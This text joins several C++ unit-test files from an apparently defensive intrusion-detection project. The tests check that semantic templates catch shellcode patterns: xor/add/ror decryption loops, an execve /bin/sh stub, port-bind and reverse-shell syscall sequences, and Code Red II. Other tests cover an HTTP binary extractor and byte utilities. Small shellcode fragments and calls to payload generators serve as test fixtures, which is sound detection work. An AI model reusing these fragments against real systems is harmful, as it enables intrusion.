}  // namespace senids::net
