#include <gtest/gtest.h>

#include "gen/emitter.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "ir/lifter.hpp"
#include "semantic/library.hpp"
#include "semantic/template.hpp"
#include "arch/scan.hpp"

namespace senids::semantic {
namespace {

using gen::Asm;
using gen::R32;
using gen::R8;
using util::Bytes;

/// Trace, lift, and match one template against a code buffer.
std::optional<MatchResult> run_match(const Template& t, const Bytes& code,
                                     std::size_t entry = 0) {
  auto trace = arch::execution_trace(code, entry);
  auto lifted = ir::lift(trace);
  LiftedCode lc{&trace, &lifted.events, code};
  return match_template(t, lc);
}

// Figure 1(a): xor byte [eax], 0x95 ; inc eax ; loop decode.
Bytes figure_1a() {
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.xor_mem8_imm8(R32::eax, 0x95);
  a.inc_r32(R32::eax);
  a.loop_(head);
  return a.finish();
}

// Figure 1(b): key built in ebx, add-advance.
Bytes figure_1b() {
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.mov_r32_imm32(R32::ebx, 0x31);
  a.add_r32_imm(R32::ebx, 0x64);
  a.xor_mem8_r8(R32::eax, R8::bl);
  a.add_r32_imm(R32::eax, 1);
  a.loop_(head);
  return a.finish();
}

// Figure 1(c): garbage instructions + out-of-order blocks chained by jmp.
Bytes figure_1c() {
  Asm a;
  auto one = a.new_label();
  auto two = a.new_label();
  auto three = a.new_label();
  auto decode = a.new_label();
  a.bind(decode);
  a.mov_r32_imm32(R32::ecx, 0);  // garbage
  a.inc_r32(R32::ecx);           // garbage
  a.inc_r32(R32::ecx);           // garbage
  a.jmp_short(one);
  a.bind(two);
  a.add_r32_imm(R32::eax, 1);
  a.jmp_short(three);
  a.bind(one);
  a.mov_r32_imm32(R32::ebx, 0x31);
  a.add_r32_imm(R32::ebx, 0x64);
  a.xor_mem8_r8(R32::eax, R8::bl);
  a.jmp_short(two);
  a.bind(three);
  a.loop_(decode);
  return a.finish();
}

TEST(Template, XorTemplateMatchesFigure1a) {
  auto m = run_match(tmpl_xor_decrypt_loop(), figure_1a());
  ASSERT_TRUE(m.has_value());
  ASSERT_EQ(m->matched_events.size(), 3u);
  // The key variable must have bound to 0x95.
  ASSERT_TRUE(m->bindings.contains("K"));
  std::uint32_t k;
  ASSERT_TRUE(ir::is_const(m->bindings["K"], &k));
  EXPECT_EQ(k, 0x95u);
}

TEST(Template, XorTemplateMatchesFigure1b) {
  // Same template, register-built key: the semantic point of the paper.
  auto m = run_match(tmpl_xor_decrypt_loop(), figure_1b());
  ASSERT_TRUE(m.has_value());
  std::uint32_t k;
  ASSERT_TRUE(ir::is_const(m->bindings["K"], &k));
  EXPECT_EQ(k, 0x95u);
}

TEST(Template, XorTemplateMatchesFigure1c) {
  // Garbage + out-of-order code: still the same behaviour.
  auto m = run_match(tmpl_xor_decrypt_loop(), figure_1c());
  ASSERT_TRUE(m.has_value());
}

TEST(Template, OneTemplateAllThreeFigures) {
  // The headline claim of Figure 2: one template, three syntaxes.
  const Template t = tmpl_xor_decrypt_loop();
  EXPECT_TRUE(run_match(t, figure_1a()).has_value());
  EXPECT_TRUE(run_match(t, figure_1b()).has_value());
  EXPECT_TRUE(run_match(t, figure_1c()).has_value());
}

TEST(Template, RegisterReassignmentTolerated) {
  // Same behaviour with esi as pointer and dl as key register.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.mov_r8_imm8(R8::dl, 0x42);
  a.xor_mem8_r8(R32::esi, R8::dl);
  a.inc_r32(R32::esi);
  a.loop_(head);
  auto m = run_match(tmpl_xor_decrypt_loop(), a.finish());
  ASSERT_TRUE(m.has_value());
}

TEST(Template, DecJnzLoopBackAccepted) {
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.xor_mem8_imm8(R32::edi, 0x11);
  a.inc_r32(R32::edi);
  a.dec_r32(R32::ecx);
  a.jnz(head);
  EXPECT_TRUE(run_match(tmpl_xor_decrypt_loop(), a.finish()).has_value());
}

TEST(Template, NoLoopNoMatch) {
  // Straight-line xor-advance without a back edge is not a decoder.
  Asm a;
  a.xor_mem8_imm8(R32::eax, 0x95);
  a.inc_r32(R32::eax);
  a.ret();
  EXPECT_FALSE(run_match(tmpl_xor_decrypt_loop(), a.finish()).has_value());
}

TEST(Template, NoAdvanceNoMatch) {
  // Looping xor over one fixed byte transforms nothing.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.xor_mem8_imm8(R32::eax, 0x95);
  a.loop_(head);
  EXPECT_FALSE(run_match(tmpl_xor_decrypt_loop(), a.finish()).has_value());
}

TEST(Template, ZeroKeyNoMatch) {
  // xor with 0 is the identity — the nonzero constraint must reject it.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.xor_mem8_imm8(R32::eax, 0x00);
  a.inc_r32(R32::eax);
  a.loop_(head);
  EXPECT_FALSE(run_match(tmpl_xor_decrypt_loop(), a.finish()).has_value());
}

TEST(Template, AdvanceViaDifferentEncodings) {
  for (int variant = 0; variant < 4; ++variant) {
    Asm a;
    auto head = a.new_label();
    a.bind(head);
    a.xor_mem8_imm8(R32::esi, 0x77);
    switch (variant) {
      case 0: a.inc_r32(R32::esi); break;
      case 1: a.add_r32_imm(R32::esi, 1); break;
      case 2: a.sub_r32_imm(R32::esi, -1); break;
      default: a.lea(R32::esi, R32::esi, 1); break;
    }
    a.loop_(head);
    EXPECT_TRUE(run_match(tmpl_xor_decrypt_loop(), a.finish()).has_value())
        << "variant " << variant;
  }
}

TEST(Template, DerivedPointerAdvance) {
  // Pointer from jmp/call/pop folds to a constant; advance must still
  // register (the iis-asp-overflow shape).
  Asm a;
  auto lmain = a.new_label();
  auto lget = a.new_label();
  auto lloop = a.new_label();
  a.jmp_short(lget);
  a.bind(lmain);
  a.pop_r32(R32::esi);
  a.bind(lloop);
  a.xor_mem8_imm8(R32::esi, 0x95);
  a.inc_r32(R32::esi);
  a.loop_(lloop);
  a.bind(lget);
  a.call(lmain);
  a.raw(util::to_bytes("ENCODEDENCODED"));
  EXPECT_TRUE(run_match(tmpl_xor_decrypt_loop(), a.finish()).has_value());
}

TEST(Template, AddDecoderMatchesAddTemplateNotXor) {
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.alu_mem8_imm8(0, R32::eax, 0x21);  // add byte [eax], 0x21
  a.inc_r32(R32::eax);
  a.loop_(head);
  Bytes code = a.finish();
  EXPECT_TRUE(run_match(tmpl_add_decrypt_loop(), code).has_value());
  EXPECT_FALSE(run_match(tmpl_xor_decrypt_loop(), code).has_value());
}

TEST(Template, SubDecoderAlsoMatchesAddTemplate) {
  // sub byte [eax], k normalizes to add of the negated key.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.alu_mem8_imm8(5, R32::eax, 0x21);  // sub byte [eax], 0x21
  a.inc_r32(R32::eax);
  a.loop_(head);
  EXPECT_TRUE(run_match(tmpl_add_decrypt_loop(), a.finish()).has_value());
}

TEST(Template, AltDecoderMatchesOnlyAltTemplate) {
  // The Figure-7 mov/or/and/not scheme.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.mov_r8_mem(R8::al, R32::esi);
  a.alu_r8_imm8(1, R8::al, 0x5a);  // or al, k
  a.mov_r8_mem(R8::bl, R32::esi);
  a.alu_r8_imm8(4, R8::bl, 0x5a);  // and bl, k
  a.not_r8(R8::bl);
  a.alu_r8_r8(4, R8::al, R8::bl);  // and al, bl
  a.mov_mem_r8(R32::esi, 0, R8::al);
  a.inc_r32(R32::esi);
  a.loop_(head);
  Bytes code = a.finish();
  EXPECT_TRUE(run_match(tmpl_admmutate_alt_decoder(), code).has_value());
  EXPECT_FALSE(run_match(tmpl_xor_decrypt_loop(), code).has_value());
}

TEST(Template, XorDecoderDoesNotMatchAltTemplate) {
  EXPECT_FALSE(run_match(tmpl_admmutate_alt_decoder(), figure_1a()).has_value());
}

TEST(Template, RorDecoderMatchesRorTemplate) {
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.mov_r8_mem(R8::al, R32::esi);
  a.shift_r8_imm8(1, R8::al, 3);  // ror al, 3
  a.mov_mem_r8(R32::esi, 0, R8::al);
  a.inc_r32(R32::esi);
  a.loop_(head);
  EXPECT_TRUE(run_match(tmpl_ror_decrypt_loop(), a.finish()).has_value());
}

TEST(Template, ShellSpawnPushedString) {
  Asm a;
  a.xor_r32_r32(R32::eax, R32::eax);
  a.push_r32(R32::eax);
  a.push_imm32(0x68732f2f);
  a.push_imm32(0x6e69622f);
  a.mov_r32_r32(R32::ebx, R32::esp);
  a.push_r32(R32::eax);
  a.push_r32(R32::ebx);
  a.mov_r32_r32(R32::ecx, R32::esp);
  a.cdq();
  a.mov_r8_imm8(R8::al, 0x0b);
  a.int_imm(0x80);
  EXPECT_TRUE(run_match(tmpl_shell_spawn_pushed_string(), a.finish()).has_value());
}

TEST(Template, ShellSpawnWrongSyscallNumberRejected) {
  Asm a;
  a.xor_r32_r32(R32::eax, R32::eax);
  a.push_r32(R32::eax);
  a.push_imm32(0x68732f2f);
  a.push_imm32(0x6e69622f);
  a.mov_r8_imm8(R8::al, 0x0c);  // not execve
  a.int_imm(0x80);
  EXPECT_FALSE(run_match(tmpl_shell_spawn_pushed_string(), a.finish()).has_value());
}

TEST(Template, ShellSpawnEmbeddedString) {
  Asm a;
  auto lmain = a.new_label();
  auto lget = a.new_label();
  a.jmp_short(lget);
  a.bind(lmain);
  a.pop_r32(R32::ebx);
  a.xor_r32_r32(R32::eax, R32::eax);
  a.mov_r8_imm8(R8::al, 0x0b);
  a.int_imm(0x80);
  a.bind(lget);
  a.call(lmain);
  a.raw(util::to_bytes("/bin/sh"));
  EXPECT_TRUE(run_match(tmpl_shell_spawn_embedded_string(), a.finish()).has_value());
}

TEST(Template, EmbeddedStringChecksActualBytes) {
  // Same code but the data is NOT "/bin..." — must not match.
  Asm a;
  auto lmain = a.new_label();
  auto lget = a.new_label();
  a.jmp_short(lget);
  a.bind(lmain);
  a.pop_r32(R32::ebx);
  a.xor_r32_r32(R32::eax, R32::eax);
  a.mov_r8_imm8(R8::al, 0x0b);
  a.int_imm(0x80);
  a.bind(lget);
  a.call(lmain);
  a.raw(util::to_bytes("/tmp/xy"));
  EXPECT_FALSE(run_match(tmpl_shell_spawn_embedded_string(), a.finish()).has_value());
}

TEST(Template, PortBindSequence) {
  Asm a;
  a.xor_r32_r32(R32::eax, R32::eax);
  a.xor_r32_r32(R32::ebx, R32::ebx);
  a.inc_r32(R32::ebx);
  a.mov_r8_imm8(R8::al, 0x66);
  a.int_imm(0x80);
  a.mov_r8_imm8(R8::bl, 0x02);
  a.mov_r8_imm8(R8::al, 0x66);
  a.int_imm(0x80);
  a.mov_r8_imm8(R8::bl, 0x04);
  a.mov_r8_imm8(R8::al, 0x66);
  a.int_imm(0x80);
  a.mov_r8_imm8(R8::bl, 0x05);
  a.mov_r8_imm8(R8::al, 0x66);
  a.int_imm(0x80);
  EXPECT_TRUE(run_match(tmpl_port_bind_shell(), a.finish()).has_value());
}

TEST(Template, PortBindOutOfOrderSubcallsRejected) {
  // accept before bind: the ordered template must not fire.
  Asm a;
  a.xor_r32_r32(R32::eax, R32::eax);
  a.xor_r32_r32(R32::ebx, R32::ebx);
  a.inc_r32(R32::ebx);
  a.mov_r8_imm8(R8::al, 0x66);
  a.int_imm(0x80);
  a.mov_r8_imm8(R8::bl, 0x05);  // accept
  a.mov_r8_imm8(R8::al, 0x66);
  a.int_imm(0x80);
  a.mov_r8_imm8(R8::bl, 0x02);  // bind
  a.mov_r8_imm8(R8::al, 0x66);
  a.int_imm(0x80);
  EXPECT_FALSE(run_match(tmpl_port_bind_shell(), a.finish()).has_value());
}

TEST(Template, CodeRedVector) {
  Asm a;
  a.nop();
  a.nop();
  a.pop_r32(R32::eax);
  a.push_imm32(0x7801cbd3);
  a.nop();
  a.ret();
  EXPECT_TRUE(run_match(tmpl_code_red_ii(), a.finish()).has_value());
}

TEST(Template, EmptyTemplateNeverMatches) {
  Template t;
  t.name = "empty";
  EXPECT_FALSE(run_match(t, figure_1a()).has_value());
}

TEST(Template, MatchReportsOffsets) {
  auto m = run_match(tmpl_xor_decrypt_loop(), figure_1a());
  ASSERT_TRUE(m.has_value());
  EXPECT_EQ(m->start_offset, 0u);  // the xor is the first instruction
}

TEST(Template, ThreatClassNames) {
  EXPECT_EQ(threat_class_name(ThreatClass::kDecryptionLoop), "decryption-loop");
  EXPECT_EQ(threat_class_name(ThreatClass::kShellSpawn), "shell-spawn");
  EXPECT_EQ(threat_class_name(ThreatClass::kPortBindShell), "port-bind-shell");
  EXPECT_EQ(threat_class_name(ThreatClass::kCodeRedII), "code-red-ii");
}

TEST(Template, ReverseShellTemplate) {
  // socket -> connect -> execve matches; bind-shell's socket/bind path
  // must not satisfy the connect template.
  {
    auto code = gen::make_reverse_shell(0xC0000264u /*192.0.2.100*/, 0x5c11u);
    auto m = run_match(tmpl_reverse_shell(), code);
    EXPECT_TRUE(m.has_value());
  }
  {
    auto binder = gen::make_shell_spawn_corpus()[8].code;
    EXPECT_FALSE(run_match(tmpl_reverse_shell(), binder).has_value());
  }
}

TEST(Template, StandardLibraryContents) {
  // 8 classic 32-bit templates + 4 x86_64 variants (stack/embedded
  // shell-spawn, port-bind, reverse shell).
  auto lib = make_standard_library();
  EXPECT_EQ(lib.size(), 12u);
  EXPECT_EQ(make_extended_library().size(), 13u);
  auto xor_only = make_xor_only_library();
  EXPECT_EQ(xor_only.size(), 1u);
  EXPECT_EQ(xor_only[0].name, "xor-decrypt-loop");
}

}  // namespace
}  // namespace senids::semantic

namespace senids::semantic {
namespace {

TEST(Template, FnstenvDecoderMatchesStatically) {
  // The lifter resolves the fnstenv FIP to a constant buffer offset, so
  // the xor template sees the same derived-constant pointer walk as the
  // call/pop form.
  auto payload = gen::make_fnstenv_decoder_payload(0x7e);
  auto trace = arch::execution_trace(payload, 0);
  auto lifted = ir::lift(trace);
  LiftedCode lc{&trace, &lifted.events, payload};
  EXPECT_TRUE(match_template(tmpl_xor_decrypt_loop(), lc).has_value());
}

}  // namespace
}  // namespace senids::semantic

namespace senids::semantic {
namespace {

TEST(Template, FormatMatchExplainsStatements) {
  auto code = figure_1a();
  auto trace = arch::execution_trace(code, 0);
  auto lifted = ir::lift(trace);
  LiftedCode lc{&trace, &lifted.events, code};
  const Template t = tmpl_xor_decrypt_loop();
  auto m = match_template(t, lc);
  ASSERT_TRUE(m.has_value());
  const std::string text = format_match(t, lc, *m);
  EXPECT_NE(text.find("xor-decrypt-loop"), std::string::npos);
  EXPECT_NE(text.find("store"), std::string::npos);
  EXPECT_NE(text.find("advance"), std::string::npos);
  EXPECT_NE(text.find("loopback"), std::string::npos);
  EXPECT_NE(text.find("xor byte ptr [eax], 0x95"), std::string::npos);
  EXPECT_NE(text.find("K = 0x95"), std::string::npos);
}

TEST(Template, CounterSanityAllowsEngineInstances) {
  // Regression guard: every engine path (call/pop and fnstenv, both
  // schemes) must still match after the counter-sanity constraint.
  auto payload = gen::make_shell_spawn_corpus()[1].code;
  for (double fnstenv_p : {0.0, 1.0}) {
    for (double xor_p : {0.0, 1.0}) {
      gen::PolyOptions opts;
      opts.fnstenv_getpc_prob = fnstenv_p;
      opts.xor_scheme_prob = xor_p;
      util::Prng prng(static_cast<std::uint64_t>(fnstenv_p * 2 + xor_p) + 900);
      auto poly = gen::admmutate_encode(payload, prng, opts);
      bool hit = false;
      for (const auto& t : make_decoder_library()) {
        if (run_match(t, poly.bytes, 0).has_value()) hit = true;
      }
      // Entry 0 starts at the sled; trace flows through the decoder.
      EXPECT_TRUE(hit) << "fnstenv=" << fnstenv_p << " xor=" << xor_p;
    }
  }
}

}  // namespace
}  // namespace senids::semantic
