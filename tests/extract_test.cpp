#include <gtest/gtest.h>

#include "extract/extractor.hpp"
#include "extract/heuristics.hpp"
#include "extract/http.hpp"
#include "extract/unicode.hpp"
#include "gen/codered.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"

namespace senids::extract {
namespace {

using util::ByteView;
using util::Bytes;

// ---------------------------------------------------------------- unicode

TEST(Unicode, DecodesUEscapesLittleEndian) {
  auto r = decode_u_escapes(util::as_bytes("%u9090%u6858"));
  EXPECT_EQ(r.escape_count, 2u);
  EXPECT_EQ(r.decoded, (Bytes{0x90, 0x90, 0x58, 0x68}));
  EXPECT_EQ(r.first_offset, 0u);
}

TEST(Unicode, DecodesPercentXX) {
  auto r = decode_u_escapes(util::as_bytes("ab%41%42cd"));
  EXPECT_EQ(r.escape_count, 2u);
  EXPECT_EQ(r.decoded, (Bytes{0x41, 0x42}));
  EXPECT_EQ(r.first_offset, 2u);
}

TEST(Unicode, MixedCaseHex) {
  auto r = decode_u_escapes(util::as_bytes("%uCBd3"));
  EXPECT_EQ(r.decoded, (Bytes{0xd3, 0xcb}));
}

TEST(Unicode, SkipsMalformedEscapes) {
  auto r = decode_u_escapes(util::as_bytes("%uZZZZ%u12"));
  EXPECT_EQ(r.escape_count, 0u);
  EXPECT_TRUE(r.decoded.empty());
}

TEST(Unicode, CodeRedBodyDecodesToPushTrampoline) {
  auto req = gen::make_code_red_ii_request();
  auto r = decode_u_escapes(req);
  ASSERT_GE(r.decoded.size(), 8u);
  // 90 90 58 68 d3 cb 01 78 : nop nop pop eax push 0x7801cbd3
  EXPECT_EQ(r.decoded[0], 0x90);
  EXPECT_EQ(r.decoded[2], 0x58);
  EXPECT_EQ(r.decoded[3], 0x68);
  EXPECT_EQ(r.decoded[4], 0xd3);
  EXPECT_EQ(r.decoded[7], 0x78);
}

TEST(Unicode, EmptyInput) {
  Bytes empty;
  auto r = decode_u_escapes(empty);
  EXPECT_EQ(r.escape_count, 0u);
}

// ------------------------------------------------------------- heuristics

TEST(Heuristics, LongestRepetitionFindsXFiller) {
  std::string s = "GET /x?" + std::string(100, 'X') + "tail";
  auto run = longest_repetition(util::as_bytes(s), 32);
  ASSERT_TRUE(run.has_value());
  EXPECT_EQ(run->offset, 7u);
  EXPECT_EQ(run->length, 100u);
}

TEST(Heuristics, RepetitionBelowThresholdIgnored) {
  std::string s = "aaaa bbbb cccc";
  EXPECT_FALSE(longest_repetition(util::as_bytes(s), 8).has_value());
}

TEST(Heuristics, RepetitionPicksLongest) {
  std::string s = std::string(10, 'A') + "x" + std::string(20, 'B');
  auto run = longest_repetition(util::as_bytes(s), 5);
  ASSERT_TRUE(run.has_value());
  EXPECT_EQ(run->length, 20u);
  EXPECT_EQ(run->offset, 11u);
}

TEST(Heuristics, NopSledClassic) {
  Bytes b(40, 0x90);
  auto run = longest_nop_sled(b, 12);
  ASSERT_TRUE(run.has_value());
  EXPECT_EQ(run->length, 40u);
}

TEST(Heuristics, NopSledVariant) {
  util::Prng prng(5);
  Bytes sled = gen::make_nop_sled(prng, 32);
  auto run = longest_nop_sled(sled, 12);
  ASSERT_TRUE(run.has_value());
  EXPECT_EQ(run->length, 32u);
}

TEST(Heuristics, NopSledBrokenByOtherBytes) {
  Bytes b(10, 0x90);
  b.push_back(0xCC);
  b.insert(b.end(), 10, 0x90);
  EXPECT_FALSE(longest_nop_sled(b, 12).has_value());
}

TEST(Heuristics, IsNopLikeMembers) {
  EXPECT_TRUE(is_nop_like(0x90));
  EXPECT_TRUE(is_nop_like(0x40));  // inc eax
  EXPECT_TRUE(is_nop_like(0xF8));  // clc
  EXPECT_FALSE(is_nop_like(0xCC)); // int3
  EXPECT_FALSE(is_nop_like(0x00));
}

TEST(Heuristics, BinaryRegionInTextPayload) {
  std::string payload = "Content-Type: text/html\r\n\r\n";
  Bytes data = util::to_bytes(payload);
  for (int i = 0; i < 64; ++i) data.push_back(static_cast<std::uint8_t>(0x80 + i));
  data.insert(data.end(), {'e', 'n', 'd'});
  auto run = longest_binary_region(data, 24);
  ASSERT_TRUE(run.has_value());
  EXPECT_EQ(run->offset, payload.size());
  EXPECT_EQ(run->length, 64u);
}

TEST(Heuristics, BinaryRegionToleratesSmallPrintableGaps) {
  Bytes data;
  for (int i = 0; i < 20; ++i) data.push_back(0x90);
  data.insert(data.end(), {'a', 'b'});  // 2-byte printable gap
  for (int i = 0; i < 20; ++i) data.push_back(0x91);
  auto run = longest_binary_region(data, 24, /*max_printable_gap=*/4);
  ASSERT_TRUE(run.has_value());
  EXPECT_EQ(run->length, 42u);
}

TEST(Heuristics, PureTextHasNoBinaryRegion) {
  std::string s(500, 'a');
  EXPECT_FALSE(longest_binary_region(util::as_bytes(s), 24).has_value());
}

// ------------------------------------------------------------------- http

TEST(Http, ParsesSimpleGet) {
  auto req = parse_http_request(
      util::as_bytes("GET /index.html HTTP/1.1\r\nHost: x.example\r\n\r\nBODY"));
  ASSERT_TRUE(req.has_value());
  EXPECT_EQ(req->method, "GET");
  EXPECT_EQ(req->target, "/index.html");
  EXPECT_EQ(req->version, "HTTP/1.1");
  ASSERT_EQ(req->headers.size(), 1u);
  EXPECT_EQ(req->headers[0].first, "Host");
  EXPECT_EQ(req->headers[0].second, "x.example");
}

TEST(Http, BodyOffsetPointsPastHeaders) {
  std::string text = "POST /a HTTP/1.0\r\nContent-Length: 4\r\n\r\nBODY";
  auto req = parse_http_request(util::as_bytes(text));
  ASSERT_TRUE(req.has_value());
  EXPECT_EQ(text.substr(req->body_offset), "BODY");
}

TEST(Http, RejectsNonHttp) {
  EXPECT_FALSE(parse_http_request(util::as_bytes("EHLO mail.example\r\n")).has_value());
  EXPECT_FALSE(parse_http_request(util::as_bytes("\x90\x90\x90")).has_value());
  EXPECT_FALSE(parse_http_request(util::as_bytes("GET")).has_value());
}

TEST(Http, ParsesCodeRedRequestLine) {
  auto req = parse_http_request(gen::make_code_red_ii_request());
  ASSERT_TRUE(req.has_value());
  EXPECT_EQ(req->method, "GET");
  EXPECT_NE(req->target.find("/default.ida?"), std::string::npos);
  EXPECT_EQ(req->version, "HTTP/1.0");
}

TEST(Http, ToleratesMissingVersion) {
  auto req = parse_http_request(util::as_bytes("GET /legacy\r\n\r\n"));
  ASSERT_TRUE(req.has_value());
  EXPECT_EQ(req->target, "/legacy");
  EXPECT_TRUE(req->version.empty());
}

// -------------------------------------------------------------- extractor

TEST(Extractor, PrunesPlainText) {
  BinaryExtractor ex;
  EXPECT_TRUE(ex.extract(util::as_bytes("GET / HTTP/1.1\r\nHost: a\r\n\r\n")).empty());
}

TEST(Extractor, ExtractsUnicodeFrame) {
  BinaryExtractor ex;
  auto frames = ex.extract(gen::make_code_red_ii_request());
  bool found = false;
  for (const auto& f : frames) {
    if (f.reason == FrameReason::kUnicodeDecoded) {
      found = true;
      EXPECT_GE(f.data.size(), 16u);
    }
  }
  EXPECT_TRUE(found);
}

TEST(Extractor, ExtractsAfterRepetition) {
  std::string payload = "HEAD /cgi?" + std::string(64, 'A') + "BINARYPART";
  BinaryExtractor ex;
  auto frames = ex.extract(util::as_bytes(payload));
  bool found = false;
  for (const auto& f : frames) {
    if (f.reason == FrameReason::kAfterRepetition) {
      found = true;
      EXPECT_EQ(util::to_string(f.data), "BINARYPART");
    }
  }
  EXPECT_TRUE(found);
}

TEST(Extractor, ExtractsNopSledFrame) {
  util::Prng prng(9);
  Bytes payload = util::to_bytes("some protocol preamble ");
  const std::size_t sled_at = payload.size();
  Bytes sled = gen::make_nop_sled(prng, 24);
  payload.insert(payload.end(), sled.begin(), sled.end());
  payload.insert(payload.end(), {0xCD, 0x80});
  BinaryExtractor ex;
  auto frames = ex.extract(payload);
  bool found = false;
  for (const auto& f : frames) {
    if (f.reason == FrameReason::kNopSled) {
      found = true;
      EXPECT_EQ(f.src_offset, sled_at);
    }
  }
  EXPECT_TRUE(found);
}

TEST(Extractor, ExtractAllBypassMode) {
  ExtractorOptions opts;
  opts.extract_all = true;
  BinaryExtractor ex(opts);
  auto frames = ex.extract(util::as_bytes("just text"));
  ASSERT_EQ(frames.size(), 1u);
  EXPECT_EQ(frames[0].reason, FrameReason::kWholePayload);
  EXPECT_EQ(frames[0].data.size(), 9u);
}

TEST(Extractor, EmptyPayloadNoFrames) {
  BinaryExtractor ex;
  Bytes empty;
  EXPECT_TRUE(ex.extract(empty).empty());
  ExtractorOptions opts;
  opts.extract_all = true;
  EXPECT_TRUE(BinaryExtractor(opts).extract(empty).empty());
}

TEST(Extractor, FrameReasonNames) {
  EXPECT_EQ(frame_reason_name(FrameReason::kUnicodeDecoded), "unicode-decoded");
  EXPECT_EQ(frame_reason_name(FrameReason::kWholePayload), "whole-payload");
}

}  // namespace
}  // namespace senids::extract

namespace senids::extract {
namespace {

TEST(Heuristics, ReturnRegionDetectsVariedLowBytes) {
  // Eight return addresses 0xbffff0XX with differing low bytes.
  Bytes payload = util::to_bytes("shellcode-bytes-here....");
  const std::size_t region_at = payload.size();
  for (int i = 0; i < 8; ++i) {
    util::put_u32le(payload, 0xbffff000u | static_cast<std::uint32_t>(i * 7 + 1));
  }
  auto run = longest_return_region(payload, 6);
  ASSERT_TRUE(run.has_value());
  EXPECT_EQ(run->offset, region_at);
  EXPECT_EQ(run->length, 32u);
}

TEST(Heuristics, ReturnRegionIgnoresPureRepetition) {
  // An 'AAAA...' filler is the repetition heuristic's case, not ours.
  Bytes payload(64, 'A');
  EXPECT_FALSE(longest_return_region(payload, 6).has_value());
}

TEST(Heuristics, ReturnRegionBelowThresholdIgnored) {
  Bytes payload = util::to_bytes("xx");
  for (int i = 0; i < 4; ++i) {
    util::put_u32le(payload, 0x08040000u | static_cast<std::uint32_t>(i));
  }
  EXPECT_FALSE(longest_return_region(payload, 6).has_value());
}

TEST(Heuristics, ReturnRegionHandlesUnalignedPhase) {
  Bytes payload = util::to_bytes("zzz");  // 3-byte prefix: region at phase 3
  for (int i = 0; i < 7; ++i) {
    util::put_u32le(payload, 0x0804fe00u | static_cast<std::uint32_t>(i));
  }
  auto run = longest_return_region(payload, 6);
  ASSERT_TRUE(run.has_value());
  EXPECT_EQ(run->offset, 3u);
}

TEST(Extractor, ReturnRegionFrameCarriesPrecedingBytes) {
  util::Prng prng(31);
  auto wire = gen::wrap_in_overflow(gen::make_shell_spawn_corpus()[1].code, prng);
  BinaryExtractor extractor;
  bool found = false;
  for (const auto& f : extractor.extract(wire)) {
    if (f.reason == FrameReason::kReturnRegion) {
      found = true;
      EXPECT_EQ(f.src_offset, 0u);
      EXPECT_LT(f.data.size(), wire.size());
      EXPECT_GT(f.data.size(), 32u);
    }
  }
  EXPECT_TRUE(found);
}

}  // namespace
}  // namespace senids::extract
