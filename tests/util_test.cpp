#include <gtest/gtest.h>

#include <atomic>
#include <set>

#include "util/bytes.hpp"
#include "util/hexdump.hpp"
#include "util/log.hpp"
#include "util/prng.hpp"
#include "util/thread_pool.hpp"

namespace senids::util {
namespace {

// ------------------------------------------------------------------ bytes

TEST(Bytes, PutLittleEndian) {
  Bytes b;
  put_u8(b, 0x11);
  put_u16le(b, 0x2233);
  put_u32le(b, 0x44556677);
  ASSERT_EQ(b, (Bytes{0x11, 0x33, 0x22, 0x77, 0x66, 0x55, 0x44}));
}

TEST(Bytes, PutBigEndian) {
  Bytes b;
  put_u16be(b, 0x2233);
  put_u32be(b, 0x44556677);
  ASSERT_EQ(b, (Bytes{0x22, 0x33, 0x44, 0x55, 0x66, 0x77}));
}

TEST(Bytes, AsBytesViewsWithoutCopy) {
  std::string_view s = "abc";
  ByteView v = as_bytes(s);
  ASSERT_EQ(v.size(), 3u);
  EXPECT_EQ(v[0], 'a');
  EXPECT_EQ(static_cast<const void*>(v.data()), static_cast<const void*>(s.data()));
}

TEST(Bytes, ToStringRoundTrip) {
  Bytes b = to_bytes("hello");
  EXPECT_EQ(to_string(b), "hello");
}

TEST(Cursor, ReadsInOrder) {
  Bytes b{0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07};
  Cursor c{ByteView(b)};
  EXPECT_EQ(c.u8(), 0x01);
  EXPECT_EQ(c.u16le(), 0x0302);
  EXPECT_EQ(c.u16be(), 0x0405);
  EXPECT_EQ(c.remaining(), 2u);
  EXPECT_EQ(c.offset(), 5u);
}

TEST(Cursor, U32BothEndians) {
  Bytes b{0xde, 0xad, 0xbe, 0xef, 0xde, 0xad, 0xbe, 0xef};
  Cursor c{ByteView(b)};
  EXPECT_EQ(c.u32le(), 0xefbeaddeu);
  EXPECT_EQ(c.u32be(), 0xdeadbeefu);
}

TEST(Cursor, ThrowsOutOfBounds) {
  Bytes b{0x01};
  Cursor c{ByteView(b)};
  EXPECT_THROW(c.u16le(), OutOfBounds);
  EXPECT_EQ(c.u8(), 0x01);
  EXPECT_THROW(c.u8(), OutOfBounds);
}

TEST(Cursor, TakeAndRest) {
  Bytes b{1, 2, 3, 4, 5};
  Cursor c{ByteView(b)};
  ByteView head = c.take(2);
  ASSERT_EQ(head.size(), 2u);
  EXPECT_EQ(head[1], 2);
  EXPECT_EQ(c.rest().size(), 3u);
  EXPECT_THROW(c.take(4), OutOfBounds);
}

TEST(Cursor, PeekDoesNotConsume) {
  Bytes b{7};
  Cursor c{ByteView(b)};
  EXPECT_EQ(c.peek().value(), 7);
  EXPECT_EQ(c.peek().value(), 7);
  c.skip(1);
  EXPECT_FALSE(c.peek().has_value());
}

TEST(Hex, EncodeDecode) {
  Bytes b{0xde, 0xad, 0x00, 0xff};
  EXPECT_EQ(to_hex(b), "dead00ff");
  EXPECT_EQ(from_hex("dead00ff").value(), b);
  EXPECT_EQ(from_hex("DE AD 00 FF").value(), b);
}

TEST(Hex, RejectsBadInput) {
  EXPECT_FALSE(from_hex("abc").has_value());   // odd digit count
  EXPECT_FALSE(from_hex("zz").has_value());    // bad digit
  EXPECT_TRUE(from_hex("").has_value());       // empty is valid (empty bytes)
}

TEST(Hexdump, FormatsRows) {
  Bytes b = to_bytes("ABCDEFGHIJKLMNOPQR");
